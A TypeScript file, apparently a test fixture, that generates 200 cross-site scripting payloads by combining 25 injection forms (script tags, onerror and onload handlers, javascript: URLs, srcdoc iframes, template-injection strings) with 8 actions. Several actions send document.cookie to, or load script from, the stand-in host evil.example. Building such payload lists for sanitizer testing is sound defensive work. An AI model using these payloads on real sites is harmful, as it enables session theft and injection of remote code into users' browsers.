/**
 * Text that runs, calls home or hides itself where a page is careless: 25 forms of 8 deeds. Each deed leaves a trace:
 * a mark on a window, a dialog, or a request that leaves the loopback.
 */
const DEEDS = [
  "top.__ran=1",
  "parent.__ran=1",
  "window.__ran=1",
  "alert(document.domain)",
  "fetch('//evil.example/'+document.cookie)",
  "new Image().src='//evil.example/i'",
  "import('//evil.example/m.js')",
  "location='//evil.example/'",
] as const;

const FORMS: readonly ((deed: string) => string)[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `"><script>${deed}</script>`,
  (deed) => `'><img src=x onerror="${deed}">`,
  (deed) => `<img src=x onerror=${deed}>`,
  (deed) => `<svg onload="${deed}">`,
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<math><mi xlink:href="javascript:${deed}">x</mi></math>`,
  (deed) => `<a href="javascript:${deed}">open</a>`,
  (deed) => `javascript:${deed}`,
  (deed) => `<iframe srcdoc="<script>${deed}</script>"></iframe>`,
  (deed) => `<iframe src="javascript:${deed}"></iframe>`,
  (deed) => `<object data="javascript:${deed}"></object>`,
  (deed) => `<body onload="${deed}">`,
  (deed) => `<details open ontoggle="${deed}">`,
  (deed) => `<input autofocus onfocus="${deed}">`,
  (deed) => `<video><source onerror="${deed}"></video>`,
  (deed) => `<style>@import '//evil.example/s.css'</style><i onclick="${deed}">`,
  (deed) => `<link rel=stylesheet href="//evil.example/l.css" onerror="${deed}">`,
  (deed) => `<template><img src=x onerror="${deed}"></template>`,
  (deed) => `</textarea></title><img src=x onerror="${deed}">`,
  (deed) => `\${${deed}}`,
  (deed) => `{{constructor.constructor("${deed}")()}}`,
  (deed) => `<!--><img src=x onerror="${deed}">-->`,
  (deed) => `\u202e<b onmouseover="${deed}">over\u202c`,
  (deed) => `__proto__<base href="//evil.example/"><p onpointerenter="${deed}">`,
];

/** 200 of them, each another text. */
export const PAYLOADS: readonly string[] = FORMS.flatMap((form) => DEEDS.map(form));
